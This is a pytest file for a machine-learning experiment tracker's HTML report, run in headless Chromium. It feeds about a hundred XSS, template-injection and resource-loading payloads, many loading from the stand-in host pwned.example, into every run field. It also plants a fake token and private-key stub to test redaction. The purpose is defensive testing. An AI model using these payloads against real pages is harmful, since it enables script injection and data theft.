"""The report, in a real headless Chromium: what it shows, that it stays usable, and that nothing in it is run or asked for.

    pytest test_report.py -k hostile      # figure 14 of bench/proof.py: every payload stands in every place where somebody else's words do

Without a Chromium the tests of the page are skipped, and those of the file go on.
"""
import json
import re
import subprocess

import browser
import pytest
import stub
from conftest import make_project
from made import METRIC, listed

from tagrun.store import confusion, layout, run_json, statistic

IN_CHROMIUM = pytest.mark.skipif(bool(browser.missing()), reason=browser.missing() or 'it is there')
RUN = 'top.pwned=1'     # what each payload tries; the others ask for an address
ASK = 'http://pwned.example/x'
PAYLOADS = [
    f'<script>{RUN}</script>', f'<ScRiPt >{RUN}</sCrIpT>', f'<script src={ASK}></script>', f'<script src="data:text/javascript,{RUN}"></script>',
    f'<script type=module>{RUN}</script>', f'<<script>{RUN}//<</script>', f'<scr<script>ipt>{RUN}</scr</script>ipt>', f'<script\n>{RUN}</script\n>',
    f'</script><script>{RUN}</script>', f'</script ><img src=x onerror={RUN}>', f'<!--<script>{RUN}</script>', f'--><script>{RUN}</script>',
    f'</title><script>{RUN}</script>', f'</style><script>{RUN}</script>', f'</textarea><script>{RUN}</script>', f'</noscript><script>{RUN}</script>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', f'<![CDATA[<script>{RUN}</script>]]>', f'"}}]}};{RUN};//', f'";{RUN};//',
    f"';{RUN};//", f'\\";{RUN};//', f'\\u003cscript\\u003e{RUN}\\u003c/script\\u003e', f'\u2028{RUN}\u2029', f'// \u2028{RUN}', f'`${{{RUN}}}`',
    f'${{{RUN}}}', f'<img src=x onerror={RUN}>', f'<img src=x:x onerror="{RUN}">', f'<img/src=`x`onerror={RUN}>', f'<img src={ASK}.png>',
    f'<img srcset="{ASK}.png 2x">', f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>", f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus tabindex=1 x='", f'x onclick={RUN}', f'"><svg onload={RUN}>', f'<svg><script>{RUN}</script></svg>',
    f'<svg><animate onbegin={RUN} attributeName=x dur=1s>', f'<svg><use href="{ASK}#x"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>', f'<math><mtext><table><mglyph><style><img src=x onerror={RUN}>',
    f'<iframe src="javascript:{RUN}"></iframe>', f'<iframe srcdoc="<script>{RUN}</script>"></iframe>', f'<iframe src={ASK}></iframe>',
    f'<object data="javascript:{RUN}"></object>', f'<object data={ASK}></object>', f'<embed src="{ASK}">', f'<a href="javascript:{RUN}">x</a>',
    f'javascript:{RUN}', f'JaVaScRiPt:{RUN}', f'java\tscript:{RUN}', f'data:text/html,<script>{RUN}</script>', f'<a href="{ASK}" ping="{ASK}">x</a>',
    f'[x](javascript:{RUN})', f'<body onload={RUN}>', f'<input autofocus onfocus={RUN}>', f'<details open ontoggle={RUN}>',
    f'<video><source onerror={RUN}></video>', f'<video src={ASK} autoplay></video>', f'<audio src={ASK} autoplay onerror={RUN}>',
    f'<marquee onstart={RUN}>', f'<form action={ASK}><button autofocus>x</button></form>', f'<meta http-equiv=refresh content="0;url={ASK}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">', f'<base href="{ASK}/">', f'<link rel=stylesheet href={ASK}.css>',
    f'<link rel=preload as=script href={ASK}.js>', '<link rel=dns-prefetch href="//pwned.example">', f'<style>@import "{ASK}.css";</style>',
    f'<style>body{{background:url({ASK}.png)}}</style>', f'<p style="background:url({ASK}.png)">', f'x;background:url({ASK}.png)',
    f'<p style="width:expression({RUN})">', f'<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={RUN}>', '{{7*7}}',
    '{% for x in 1 %}', '${7*7}', '#{7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", f'{{{{constructor.constructor("{RUN}")()}}}}',
    '__proto__', 'constructor', f'%3Cscript%3E{RUN}%3C/script%3E', f'&lt;script&gt;{RUN}&lt;/script&gt;', f'&#60;script&#62;{RUN}&#60;/script&#62;',
    f'+ADw-script+AD4-{RUN}+ADw-/script+AD4-', f'\ufeff<script>{RUN}</script>', f'\x00<script>{RUN}</script>', f'\x1b]52;c;{RUN}\x07',
    f'\u202e<script>{RUN}</script>', f'＜script＞{RUN}＜/script＞', f'\ud83d<script>{RUN}</script>',
    f'<template shadowrootmode=open><script>{RUN}</script></template>', f'<x-y onpointerenter={RUN}>', f'<portal src={ASK}>',
    f'<div hidden=until-found onbeforematch={RUN}>']


ELEMENTS = 'script, style, img, svg, math, iframe, object, embed, video, audio, form, input, meta, base, link, template'   # that no card has


# --- projects ---------------------------------------------------------------------------------------------------------


def commits(project, authors, messages, name):
    """A commit for each author and message, on no branch, each with a file of its own in code/; their ids. Fast: one process makes them all."""
    parent, stream = project.git('rev-parse', 'HEAD').strip(), b''
    for number, (author, message) in enumerate(zip(authors, messages)):
        author, message = re.sub('[<>\n\x00]', ' ', author).encode('utf-8', 'replace'), message.replace('\0', '').encode('utf-8', 'replace')
        content = message + b'\n'
        stream += b'commit refs/made/%d\nmark :%d\ncommitter %s <a@example.org> 1763000000 +0000\ndata %d\n%s\nfrom %s\n' % (
            number, number + 1, author, len(message), message, parent.encode())
        stream += b'M 100644 inline code/%s\ndata %d\n%s\n' % (name.encode(), len(content), content)
        stream += b'tag h%d\nfrom :%d\ntagger %s <a@example.org> 1763000000 +0000\ndata %d\n%s\n' % (number, number + 1, author, len(message), message)
    subprocess.run(['git', 'fast-import', '--quiet'], cwd=project.root, input=stream, check=True)
    found = dict(line.split(' ')[::-1] for line in project.git('for-each-ref', '--format=%(objectname) %(refname)', 'refs/made').splitlines())
    return [found[f'refs/made/{number}'] for number in range(len(messages))]


def make_run(project, name, commit=None, info=(), files=(), **more):
    """A run's folder, written without fsync: a thousand of them take a second. files: {name: text}."""
    tag, _, number = name.partition('/')
    folder = layout.run_folder(project.root, tag, number)
    folder.mkdir(parents=True)
    content = {'run': name, 'status': 'finished', 'seed': 7, 'commit': commit, 'epoch': 3, 'epochs': 3, 'watch': 'val/acc', 'mode': 'max', 'best_epoch': 2,
               'metric': METRIC, 'last': METRIC, 'hparam': {'model': 'cnn', 'lr': 0.01}, 'digest': {},
               'time': {'started': '2026-11-21T09:00:00Z', 'seconds': 12.5}, **more}
    (folder / 'run.json').write_text(json.dumps({**run_json.build(project.root, tag, int(number), commit, 7), **dict(info)}))
    (folder / 'statistic.json').write_text(json.dumps(content))
    for file, text in {'history.csv': 'epoch,val/acc,seconds\n1,0.5,1\n2,0.75,1\n3,0.7,1\n', 'log': 'a line\n', **dict(files)}.items():
        (folder / file).write_bytes(text.encode('utf-8', 'replace'))
    return folder


def reported(project, *words, **more):
    """Make a report; (what was said, the page's path)."""
    done = project.tagrun('report', *words, '-o', project.root / 'page.html', **more)
    return done.stderr, project.root / 'page.html'


@pytest.fixture(scope='module')
def chromium(tmp_path_factory):
    with browser.open_browser(tmp_path_factory.mktemp('chromium')) as found:
        yield found


@pytest.fixture(scope='module')
def three(tmp_path_factory):
    """Three runs of two tags, one of them run again twice, in a stub project; and the page of them."""
    project = stub.make(tmp_path_factory.mktemp('three') / "a 'b; c")
    project.tagrun('run', 'base', '-m', 'Does it learn at all?')
    project.edit('model.py', 'none.', 'none yet.')
    project.tagrun('run', 'wide', '--set', 'lr=0.3', "model='cnn'")
    project.tagrun('rerun', 'base', '-f')
    counts = {'epoch': 1, 'matrices': {'val/confusion': {'classes': ['cat', 'dog'], 'counts': [[40, 2], [1, 37]]}}}
    (project.folder('wide/0') / 'confusion.json').write_text(json.dumps(counts))
    (project.folder('wide/0') / 'history.csv').write_text('epoch,val/acc,seconds\n1,0.25,1\n2,nan,1\n3,0.75,1\n')
    (project.folder('base/0') / 'environment.json').write_text('{"python": "3.11.7", "packages": {"torch": "2.13.0"}}')
    (project.folder('wide/0') / 'environment.json').write_text('{"python": "3.12.1", "packages": {"torch": "2.13.0"}}')
    return project, reported(project)[1]


# --- hostile words ------------------------------------------------------------------------------------------------------


@pytest.fixture(scope='module')
def hostile(tmp_path_factory):
    """The page of a run for each payload, which stands in all that somebody else may have written of that run."""
    project = stub.make(tmp_path_factory.mktemp('hostile') / "a 'b; c")
    made = commits(project, PAYLOADS, [f'{payload}\n\n{payload}' for payload in PAYLOADS], 'model.py')
    for number, (payload, commit) in enumerate(zip(PAYLOADS, made)):
        quoted = '"' + payload.replace('"', '""') + '"'
        difference = {'stream': payload, 'epoch': payload, 'step': payload, 'here': payload, 'there': payload}
        make_run(project, f'h{number}/0', commit, {'rerun_of': 'h0/0', 'exact': True, 'verdict': {'same': payload, 'first_difference': difference}}, {
            'history.csv': f'epoch,val/acc,{quoted},seconds\n1,0.5,0.1,1\n2,0.75,{quoted},1\n3,{quoted},0.3,1\n', 'log': f'{payload}\n{payload}\n',
            'environment.json': json.dumps({'python': payload, payload: payload, 'packages': {payload: payload}}),
            'confusion.json': json.dumps({'epoch': payload, 'matrices': {payload: {'classes': [payload, 'b'], 'counts': [[1, 2], [3, 4]]}}})},
            status=payload if number % 2 else 'failed', message=payload, seed=payload, epoch=payload, epochs=payload, best_epoch=payload, mode=payload,
            watch=payload if number % 3 == 0 else 'val/acc', metric={**METRIC, payload: payload, 'val/acc': 0.5}, last={payload: payload},
            hparam={'lr': payload, payload: payload, 'nested': {payload: [payload]}}, digest={'weights': payload},
            time={'started': payload, 'updated': payload, 'seconds': payload})
    listed(project.root, 'finished', *(f'h{number}/0' for number in range(len(PAYLOADS))))
    return reported(project, 'finished')[1]


@pytest.fixture(scope='module')
def seen(chromium, hostile):
    """The page, after all was done with it that a reader may do; what each run's card says; what was asked for."""
    page = chromium.page()
    page.size(1300, 900)
    page.go(hostile)
    page.settle()
    page.value("document.querySelectorAll('#runs thead button').forEach(button => { button.click(); button.click(); })")
    page.value("""for (const word of ['<script>', 'h1', 'lr=x', '__proto__=1', 'constructor>0', '']) {
        document.getElementById('filter').value = word; document.getElementById('filter').dispatchEvent(new Event('input')); }""")
    page.click('#pick-all')
    page.click('#more')
    page.click('#log')
    page.settle()
    left, top = page.value("(() => { scrollTo(0, 0); document.querySelector('.u-over').scrollIntoView({block: 'center'}); "
                           "const box = document.querySelector('.u-over').getBoundingClientRect(); return [box.left + box.width / 2, box.top]; })()")
    for y in range(10, 180, 30):
        page.point(left, top + y)
        page.settle()
    page.click('#pick-none')
    cards = page.value("""(async () => {
        const cards = [];
        for (let number = 0; number < data.runs.length; number++) {
            const followed = new Promise(done => addEventListener('hashchange', done, { once: true }));
            location.hash = `#h${number}%2F0`;
            await followed;
            const card = document.getElementById('run-' + number);
            card.querySelectorAll('summary').forEach(one => one.click());
            for (const kind of ['mouseover', 'pointerenter', 'click', 'focus', 'toggle'])
                card.querySelectorAll(':not(a, button, summary)').forEach(one => one.dispatchEvent(new Event(kind)));
            cards.push(card.textContent);
        }
        return cards;
    })()""")
    for name in ('<img src=x onerror=top.pwned=1>', '%', '%E0%A4%A', 'javascript:top.pwned=1'):
        page.value(f'location.hash = {json.dumps("#" + name)}')
    page.value('new Promise(done => setTimeout(done, 300))')
    return page, cards, [line for line in chromium.asked if 'pwned' in line]


@IN_CHROMIUM
@pytest.mark.parametrize('number', range(len(PAYLOADS)))
def test_a_hostile_payload_is_shown_as_text_and_makes_no_element(seen, number):
    page, cards, _ = seen
    spaces = ' '.join(PAYLOADS[number].replace('\x00', '\\x00').replace('\x1b', '\\x1b').replace('\x07', '\\x07').replace('\ud83d', '?').split())
    text = ' '.join(cards[number].split())
    assert text.count(spaces) >= 8 or '\u2028' in PAYLOADS[number] and RUN in text, 'it is not shown as it was written'
    assert page.value(f"document.querySelectorAll('#run-{number} :is({ELEMENTS})').length") == 0
    links = page.value(f"[...document.querySelectorAll('#run-{number} a')].map(one => one.getAttribute('href'))")
    assert all(re.fullmatch('#h[0-9]+%2F0', link) for link in links)
    named = page.value(f"[...document.querySelectorAll('#run-{number} *')].flatMap(one => [...one.attributes]).map(one => one.name)")
    assert set(named) <= {'class', 'id', 'tabindex', 'type', 'href', 'open', 'style'}


@IN_CHROMIUM
def test_the_hostile_page_ran_nothing_and_asked_for_nothing(seen, hostile):
    page, _, asked = seen
    assert page.value('top.pwned') is None
    assert {address.partition('#')[0] for address in page.requests} == {hostile.as_uri()}
    assert not asked
    assert not page.dialogs and not page.complaints
    assert all(address.startswith(('about:blank', hostile.as_uri())) for address in page.visited)
    assert page.value('({}).polluted') is None and page.value("document.querySelectorAll('body script').length") == 3


@IN_CHROMIUM
def test_the_same_hostile_payloads_do_run_in_a_page_without_care(chromium, tmp_path):
    """Else the tests above could not fail."""
    path = tmp_path / 'careless.html'
    harmless = [payload for payload in PAYLOADS if 'refresh' not in payload]    # it would lead away from the page
    path.write_bytes(('<!doctype html><meta charset=utf-8>' + '\n'.join(harmless[:1] + harmless[27:45] + harmless[68:])).encode('utf-8', 'replace'))
    page, before = chromium.page(), len(chromium.asked)
    page.go(path)
    page.value('new Promise(done => setTimeout(done, 500))')
    assert page.value('top.pwned') == 1 and len({line for line in chromium.asked[before:] if 'pwned.example' in line}) >= 1


@IN_CHROMIUM
def test_the_policy_alone_stops_hostile_markup_that_got_into_the_page(chromium, three, tmp_path):
    path = tmp_path / 'broken.html'
    hiding = 'refresh|textarea|title|<!--|template|CDATA'   # the rest
    body = [f'<p>{payload}</p>' for payload in PAYLOADS if not re.search(hiding, payload)]
    path.write_bytes(three[1].read_bytes().replace(b'<footer>', '\n'.join(body).encode('utf-8', 'replace') + b'<footer>'))
    page, before = chromium.page(), len(chromium.asked)
    page.go(path)
    page.value('new Promise(done => setTimeout(done, 500))')
    assert page.value("document.querySelectorAll('img, iframe, svg').length") > 10
    assert page.value('top.pwned') is None
    assert not [line for line in chromium.asked[before:] if 'pwned' in line]
    assert any('Content Security Policy' in complaint for complaint in page.complaints)


def test_the_hostile_page_has_a_policy_before_anything_and_no_raw_angle_in_its_data(hostile):
    text = hostile.read_text()
    policy = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', text)
    assert text.index('Content-Security-Policy') < 120
    assert 'unsafe' not in policy[1] and policy[1].startswith('default-src &#39;none&#39;; script-src &#39;sha256-')
    data = re.search('<script type="application/json" id="data">(.*?)</script>', text, re.S)[1]
    assert not re.search('[<>&\u2028\u2029]', data) and len(json.loads(data)['runs']) == len(PAYLOADS)
    assert not re.search('(?:src|href|action|data)="(?!#)', text.replace(data, '')), 'an address'


def test_a_hostile_name_of_a_set_or_run_is_refused(three, tmp_path):
    project, _ = three
    for word in ('<script>alert(1)</script>', '../../etc', '"><svg onload=alert(1)>', '@<b>', '{{7*7}}'):
        assert 'tagrun:' in project.tagrun('report', word, code=2 if not word.startswith('@') else 1).stderr


# --- what it shows ------------------------------------------------------------------------------------------------------


@pytest.fixture
def page(chromium, three):
    found = chromium.page()
    found.size(1300, 900)
    found.go(three[1])
    found.settle()
    return found


def column(page, heading):
    """The shown cells below a heading."""
    return page.value(f"(() => {{ const at = [...document.querySelectorAll('#runs th')].findIndex(one => one.textContent === {json.dumps(heading)}); "
                      "return [...document.querySelectorAll('#runs tbody tr')].filter(row => !row.hidden).map(row => row.cells[at].textContent); })()")


def press(page, heading):
    page.value(f"[...document.querySelectorAll('#runs th button')].find(one => one.textContent === {json.dumps(heading)}).click()")


def search(page, words):
    page.value(f"document.getElementById('filter').value = {json.dumps(words)}; document.getElementById('filter').dispatchEvent(new Event('input'))")


@IN_CHROMIUM
def test_the_table_has_what_differs_and_sorts(page):
    assert column(page, 'run') == ['base/0', 'wide/0', 'base/1'] and column(page, 'status') == ['finished'] * 3
    assert column(page, 'lr') == ['0.1', '0.3', '0.1']
    assert not page.value("[...document.querySelectorAll('#runs th')].some(one => one.textContent === 'steps')"), 'it is the same of all'
    press(page, 'run')
    assert column(page, 'run') == ['base/0', 'base/1', 'wide/0']
    press(page, 'lr')
    press(page, 'lr')
    assert column(page, 'lr') == ['0.3', '0.1', '0.1'] and column(page, 'verdict') == ['', '', 'the same as base/0']


@IN_CHROMIUM
@pytest.mark.parametrize('words, left', [('wide', ['wide/0']), ('lr>0.2', ['wide/0']), ('lr<=0.1 base/1', ['base/1']), ('model=none', ['base/0', 'base/1']),
                                         ('acc>=0.5 model!=none', ['wide/0']), ('nothing-of-that', []), ('', ['base/0', 'wide/0', 'base/1'])])
def test_the_table_is_filtered_by_words_and_conditions(page, words, left):
    search(page, words)
    assert column(page, 'run') == left


@IN_CHROMIUM
def test_a_filter_with_an_unknown_column_says_so(page):
    search(page, 'colour=red')
    assert page.value("document.getElementById('count').textContent") == 'there is no such column'


@IN_CHROMIUM
def test_a_curve_says_its_name_and_value_to_the_pointer(page):
    page.value("document.querySelector('.u-over').scrollIntoView({block: 'center'})")
    x, y, width, height = page.value("(box => [box.left, box.top, box.width, box.height])(document.querySelector('.u-over').getBoundingClientRect())")
    page.point(x + width - 2, y + height / 2)
    page.settle()
    page.point(x + width - 3, y + 12)
    page.settle()
    assert page.value("[...document.querySelectorAll('.tip')].filter(tip => !tip.hidden).map(tip => tip.textContent)") == ['wide/0  epoch 3: 0.75']


@IN_CHROMIUM
def test_the_ticks_choose_the_curves(page):
    names = "[...document.querySelectorAll('#legend > span')].map(one => one.textContent.trim().split(' ')[0])"
    assert sorted(page.value(names)) == ['base/0', 'base/1', 'wide/0']
    page.click('#runs tbody tr:nth-child(2) input')
    assert sorted(page.value(names)) == ['base/0', 'base/1']
    page.click('#pick-none')
    assert page.value(names) == [] and page.value("document.querySelectorAll('#charts canvas').length") == 0
    search(page, 'wide')
    page.click('#pick-all')
    assert page.value(names) == ['wide/0']
    page.click('#log')
    page.settle()
    assert page.value("document.querySelectorAll('#charts canvas').length") == 1 and not page.complaints


@IN_CHROMIUM
def test_a_run_tells_its_code_arguments_matrix_environment_reruns_and_log(page):
    def card(number):
        return page.value(f"document.getElementById('run-{number}').textContent")
    assert 'Does it learn at all?' in card(0) and 'made again by base/1: the same, bit for bit' in card(0)
    assert 'made again from base/0: the same, bit for bit' in card(2)
    assert '-"""The network: none."""' in card(1) and '+"""The network: none yet."""' in card(1) and "+model = 'cnn'" in card(1)
    assert 'Arguments that differ from base/0' in card(1) and 'val/confusion at epoch 1' in card(1) and '37' in card(1)
    assert 'Environment, not as that of base/0' in card(1) and '3.12.1' in card(1) and 'trained, finished' in card(1)
    page.value("document.querySelector('#run-0 .same a').click()")
    page.settle()
    assert page.value('location.hash') == '#base%2F1' and page.value('document.activeElement.id') == 'run-2'


@IN_CHROMIUM
@pytest.mark.parametrize('scheme', ['light', 'dark'])
def test_it_fits_a_phone(chromium, three, scheme):
    page = chromium.page()
    page.size(390, 844, mobile=True)
    page.media(prefers_color_scheme=scheme)
    page.go(three[1])
    page.settle()
    assert page.value('document.documentElement.scrollWidth') == 390
    assert page.value("[...document.querySelectorAll('.chart canvas')].every(one => one.getBoundingClientRect().right <= 390)")
    dark = page.value("getComputedStyle(document.body).backgroundColor") != 'rgb(255, 255, 255)'
    assert dark == (scheme == 'dark')


@IN_CHROMIUM
def test_it_is_printed(page, tmp_path):
    page.print(tmp_path / 'page.pdf')
    assert (tmp_path / 'page.pdf').read_bytes().startswith(b'%PDF') and (tmp_path / 'page.pdf').stat().st_size > 20_000


@IN_CHROMIUM
def test_a_thousand_runs_are_read_sorted_and_drawn_without_waiting(chromium, tmp_path):
    project = stub.make(tmp_path / "a 'b; c")
    made = commits(project, ['A Tester'] * 100, [f'try {number}' for number in range(100)], 'model.py')
    head, log = 'epoch,train/loss,train/acc,val/loss,val/acc,lr,seconds\n', ''.join(f'epoch {number}: a line of the log\n' for number in range(200))
    for number in range(1000):
        rows = ''.join(f'{epoch},{2 / epoch + number / 1e4},{1 - 1 / epoch},{2.1 / epoch},{0.9 - 0.9 / epoch + number / 1e5},0.01,1.5\n'
                       for epoch in range(1, 101))
        make_run(project, f't{number // 10}/{number % 10}', made[number // 10], {}, {'history.csv': head + rows, 'log': log}, seed=number,
                 metric={**METRIC, 'val/acc': number / 1000}, hparam={'lr': number // 10 / 7, **{f'argument{place}': place for place in range(20)}})
    listed(project.root, 'finished', *(f't{number}/*' for number in range(100)))
    _, path = reported(project)
    page = chromium.page()
    took = {'load': page.go(path)}
    for what, action in {'sort': "document.querySelectorAll('#runs th button')[5].click()", 'all curves': "get('pick-all').click()",
                         'filter': "get('filter').value = 'acc>0.5'; get('filter').dispatchEvent(new Event('input'))"}.items():
        took[what] = page.value(f'(() => {{ const began = performance.now(); {action}; document.body.offsetHeight; '
                                'return (performance.now() - began) / 1000; })()')
    assert path.stat().st_size < 6e6 and took['load'] < 15 and max(took['sort'], took['filter']) < 2 and took['all curves'] < 10
    assert len(column(page, 'run')) == 499


@IN_CHROMIUM
def test_no_curve_is_too_wild_to_be_drawn(chromium, tmp_path):
    project = stub.make(tmp_path / "a 'b; c")
    wild = {'diverged': ['1', '1e30', '1e308'], 'both': ['-1e308', '1e308', '0'], 'tiny': ['1e-320', '5e-324', '1e-300'], 'zero': ['0', '0', '0'],
            'below': ['-1', '-2', '-3'], 'alone': ['nan', '0.5', 'inf'], 'even': ['0.5'] * 3, 'near': ['1', '1.0000000000000002', '1']}
    for number, epochs in enumerate([(1, 2, 3), (0, 10 ** 15, 10 ** 16), (-5, 0.25, 1e308), (3, 2, 1), (1, 1, 1), ('', 'x', 'nan')]):
        rows = '\n'.join(','.join([str(epoch), *(values[place] for values in wild.values()), '1']) for place, epoch in enumerate(epochs))
        make_run(project, f't/{number}', files={'history.csv': f'epoch,{",".join(wild)},seconds\n{rows}\n'})
        page = chromium.page()
        page.go(reported(project, f't/{number}')[1])
        for _ in range(2):
            page.click('#log')
            page.settle()
        assert page.value("document.querySelectorAll('#charts canvas').length") == len(wild) and not page.complaints
    page.go(reported(project, 't')[1])
    page.settle()
    assert not page.complaints


# --- the file -----------------------------------------------------------------------------------------------------------


def test_it_goes_where_git_does_not_see_it_unless_told_otherwise(three):
    project, _ = three
    (project.root / 'page.html').unlink(missing_ok=True)
    before = project.git('status', '--porcelain')
    said = project.tagrun('report', 'base').stderr
    assert '__statistic__/report/base.html: 2 runs' in said and project.git('status', '--porcelain') == before
    assert project.tagrun('report', 'base/0', '-o', '-').stdout.startswith('<!doctype html>')
    reported(project)   # as the other tests know it


def test_words_name_lists_tags_and_runs(three):
    project, _ = three
    listed(project.root, 'paper', 'wide/0', 'base/1')
    data = {}
    for words in (['paper'], ['@paper'], ['base'], ['wide', 'base/1'], ['bas']):
        said = project.tagrun('report', *words, '-o', '-').stdout
        data[' '.join(words)] = [run['name'] for run in json.loads(re.search('id="data">(.*?)</script>', said, re.S)[1])['runs']]
    both, listed_ones = ['base/0', 'base/1'], ['wide/0', 'base/1']
    assert data == {'paper': listed_ones, '@paper': listed_ones, 'base': both, 'wide base/1': listed_ones, 'bas': both}


def test_what_cannot_be_read_is_named_and_the_rest_is_reported(tmp_path):
    project = stub.make(tmp_path / "a 'b; c")
    secret = tmp_path / 'secret'
    secret.write_text('a file of the user, that is nobody\'s business')
    good = make_run(project, 'good/0', files={'log': 'key ghp_' + 'a1B2' * 9 + '\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n'})
    for name in ('environment.json', 'confusion.json'):
        (good / name).write_text('[' * 5000)
    torn = make_run(project, 'torn/0')
    (torn / 'statistic.json').write_text('{"metric": {')
    linked = make_run(project, 'linked/0')
    (linked / 'statistic.json').rename(tmp_path / 'elsewhere.json')
    (linked / 'statistic.json').symlink_to(tmp_path / 'elsewhere.json')
    sly = make_run(project, 'sly/0')
    for name in ('log', 'history.csv'):
        (sly / name).unlink()
        (sly / name).symlink_to(secret)
    said, path = reported(project, 'good', 'torn', 'linked', 'sly')
    text = path.read_text()
    assert 'torn/0: statistic.json: not JSON' in said and 'linked/0: statistic.json is a link; left out' in said
    assert "nobody" not in text and 'ghp_' not in text and 'MIIEow' not in text and text.count('(hidden)') == 2


def test_it_names_the_package_that_it_needs(three, tmp_path):
    project, _ = three
    (tmp_path / 'jinja2.py').write_text("raise ModuleNotFoundError(\"No module named 'jinja2'\", name='jinja2')\n")
    said = project.tagrun('report', code=1, env={'PYTHONPATH': str(tmp_path)}).stderr
    assert 'a report needs the package jinja2' in said and 'requirements-report.txt' in said


def test_numbers_that_json_has_not_and_names_of_pythons_own_do_no_harm(tmp_path):
    project = stub.make(tmp_path / "a 'b; c")
    make_run(project, 't/0', metric={'val/acc': 'nan', 'val/loss': 'inf', 'x': True, 'y': None, 'z': 10 ** 400}, last={'val/loss': '-inf'}, epoch=None,
             files={'history.csv': 'epoch,val/acc,seconds\n1,nan,1\n2,inf,1\n3,1e308,1\n'})
    make_run(project, 't/1', metric={'val/acc': 0.5}, hparam={'': 1, 'a' * 5000: 2}, time={'started': 5, 'seconds': 'nan'})
    _, path = reported(project, 't')
    data = json.loads(re.search('id="data">(.*?)</script>', path.read_text(), re.S)[1], parse_constant=lambda word: pytest.fail(f'{word} is no JSON'))
    assert data['runs'][0]['curves'] == [[None, None, 1e308]] and max(map(len, data['args'])) <= 302


def test_training_leaves_the_confusion_matrices_of_the_best_epoch(tmp_path, data):
    project = make_project(tmp_path / "a 'b; c", data, epochs='2')
    project.tagrun('run', 't1')
    content, told = json.loads((project.folder('t1/0') / 'confusion.json').read_text()), statistic.read(project.folder('t1/0'))
    counts = content['matrices']['val/confusion']['counts']
    assert content['epoch'] == told['best_epoch'] and set(content['matrices']) == {'val/confusion', 'test/confusion'}
    right = sum(row[place] for place, row in enumerate(counts)) / sum(map(sum, counts))
    assert right == pytest.approx(told['metric']['val/acc'])


def test_what_is_no_confusion_matrix_is_neither_written_nor_read(tmp_path):
    confusion.write(tmp_path, 3, {'good': (('a', 'b'), [[1, 2], [3, 4]]), 'unnamed': (10, [[5]]), 'oblong': (None, [[1, 2, 3]]), 'nan': (None, [[float('nan')]]),
                                  'large': (None, [[0] * 101] * 101)})
    assert confusion.read(tmp_path) == (3, {'good': (['a', 'b'], [[1, 2], [3, 4]]), 'unnamed': (['0'], [[5]])})
    (tmp_path / confusion.NAME).write_text(json.dumps({'epoch': 3, 'matrices': {'word': {'counts': [['x']]}, 'flat': {'counts': [1]}, 'none': None, 'huge': {'counts': [[1e308]]}}}))
    assert confusion.read(tmp_path) == (3, {})
    (tmp_path / confusion.NAME).write_text('{"matrices": 5}')
    assert confusion.read(tmp_path) == (None, {})
